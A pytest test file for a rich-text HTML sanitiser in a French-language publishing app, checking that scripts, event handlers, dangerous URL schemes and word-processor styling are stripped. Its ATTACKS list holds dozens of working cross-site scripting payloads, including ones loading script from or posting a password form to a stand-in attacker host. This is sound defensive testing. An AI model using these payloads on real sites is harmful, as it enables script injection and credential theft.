"""What gets into a rich text, whoever writes it: no script, no style, no foreign dress."""

import random
from pathlib import Path

import pytest

from publishing.rich.cleaning import BLOCKS, MARKS, clean
from publishing.rich.plain import stored
from publishing.rich.tree import Node, read

CLIPBOARD = Path(__file__).parent  # what word processors put there, written by hand after theirs
KEY = "2e9a9fd9-a2ce-5adf-8d7b-ad96ac97c637"

ATTACKS = [
    "<script>alert(1)</script>",
    "<p>a<script src=https://evil.example/x.js></script></p>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math href='javascript:alert(1)'>x</math>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='java&#x09;script:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:x'>x</a>",
    "<a href='//evil.example/'>x</a>",
    "<a href='/\\evil.example/'>x</a>",
    "<a href='https://user@evil.example/'>x</a>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<p style='position:fixed;inset:0'>x</p>",
    "<p onclick=alert(1) id=x class=y>x</p>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<textarea></textarea><img src=x onerror=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<form action=https://evil.example><input name=password><button>x</button></form>",
    "<!--><script>alert(1)</script>-->",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<p><b><a href='x' href='javascript:alert(1)'>x</b></a></p>",
    "<table><td><script>alert(1)</script><a href=javascript:alert(1)>x",
    "<ul><li onmouseover=alert(1)>x<li><svg/onload=alert(1)>",
    "<base href=https://evil.example/><meta http-equiv=refresh content=0>",
    "<a href='register:summits.decision:x'>x</a>",
    f"<a href='register:auth.user:{KEY}'>x</a>",
    f"<a href='register:sources.passage:{KEY}'>x</a>",
    f"<a href='register:javascript:alert(1)//:{KEY}'>x</a>",
]


def elements(html):
    return list(Node("div", children=read(html)).all(*BLOCKS, *MARKS))


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_that_runs_or_dresses_is_left(attack):
    html = clean(attack)

    for sign in ("<script", "<img", "<svg", "<math", "<style", "<iframe", "<form", "<input", "<base", "<meta"):
        assert sign not in html.lower()
    for node in elements(html):
        assert set(node.attributes) <= {"href", "colspan", "rowspan"}
        assert not {"href"} & set(node.attributes), html
    assert clean(html) == html


@pytest.mark.parametrize(
    ("given", "kept"),
    [
        ("<p>Un <b>mot</b>, <i>un autre</i></p>", "<p>Un <strong>mot</strong>, <em>un autre</em></p>"),
        ("<h1>Un</h1><h5>Deux</h5>", "<h2>Un</h2><h3>Deux</h3>"),
        ("<div>un<div>deux</div>trois</div>", "<p>un</p><p>deux</p><p>trois</p>"),
        ("un<br>deux", "<p>un<br>deux</p>"),
        ("<ul><li><p>un</p></li><li>deux<ol><li>trois</li></ol></li></ul>",
         "<ul><li>un</li><li>deux<ol><li>trois</li></ol></li></ul>"),
        ("<blockquote>dit-il</blockquote>", "<blockquote><p>dit-il</p></blockquote>"),
        ("<table><caption>C</caption><thead><tr><th>A</thead><tr><td><p>1</p><td colspan=2 rowspan=1>2</table>",
         '<p>C</p><table><tbody><tr><th>A</th></tr><tr><td>1</td><td colspan="2">2</td></tr></tbody></table>'),
        ("<p> </p><p>&nbsp;</p><h2></h2><ul><li></li></ul><p>a <strong> </strong>b</p>", "<p>a b</p>"),
        ('<a href=" https://example.org/a?b=1&amp;c ">x</a>', '<p><a href="https://example.org/a?b=1&amp;c">x</a></p>'),
        ('<a href="mailto:a@example.org">x</a>', '<p><a href="mailto:a@example.org">x</a></p>'),
        ('<a href="/fr/flux/" target=_blank rel=x>x</a>', '<p><a href="/fr/flux/">x</a></p>'),
        (f'<a href="register:summits.decision:{KEY}">x</a>', f'<p><a href="register:summits.decision:{KEY}">x</a></p>'),
        ("<p>CO<sub>2</sub>, 1<sup>er</sup>, <code>a</code></p>",) * 2,
        ("<p>1 &lt; 2 &amp;amp; «\N{NO-BREAK SPACE}x\N{NO-BREAK SPACE}»</p>",
         "<p>1 &lt; 2 &amp;amp; «\N{NO-BREAK SPACE}x\N{NO-BREAK SPACE}»</p>"),
    ],
)  # fmt: skip
def test_what_is_allowed_stays_in_one_form(given, kept):
    assert clean(given) == kept
    assert clean(kept) == kept


TAGS = (
    "<p> </p> <ul> <li> </li> <table> <tr> <td> <b> </b> <a§href=/x> </a> <div> </div> <h2> </h2> <br> <sup> <!-- -->"
)
PIECES = [
    *ATTACKS,
    *(tag.replace("§", " ") for tag in TAGS.split()),
    "mot ",
    "&lt;script&gt;",
    "&amp;",
    "\n",
    "## titre",
    "- a",
    "<![CDATA[",
    "\x00",
    "\xa0",
]


def test_any_mixture_cleaned_twice_is_the_same_and_runs_nothing():
    rolled = random.Random(20)
    for _ in range(400):
        given = "".join(rolled.choices(PIECES, k=rolled.randint(1, 12)))
        kept = stored(given)
        assert stored(kept) == kept, given
        for node in elements(clean(kept)):
            assert node.attributes.get("href", "/x") == "/x", given


# Word processors

WORD = CLIPBOARD.joinpath("word.html").read_text()
FROM_WORD = (
    "<h2>Le relevé</h2><p>Les ministres ont <strong>adopté</strong> le texte\N{NO-BREAK SPACE} final.</p>"
    "<ul><li>un point<ul><li>un sous-point</li></ul></li><li>un autre</li></ul><ol><li>premier</li></ol>"
    "<table><tbody><tr><td>Date</td><td>Lieu</td></tr></tbody></table>"
)
LIBREOFFICE = CLIPBOARD.joinpath("libreoffice.html").read_text()


def test_word_is_read_without_its_dress():
    assert clean(WORD) == FROM_WORD


def test_libreoffice_is_read_without_its_dress():
    assert clean(LIBREOFFICE) == "<h2>Annexe</h2><p><em>Texte</em> souligné</p><ul><li>un</li><li>deux</li></ul>"


def test_a_document_on_the_web_is_not_bold_as_a_whole():
    assert clean('<b style="font-weight:normal;"><p>un</p><p>deux</p></b>') == "<p>un</p><p>deux</p>"
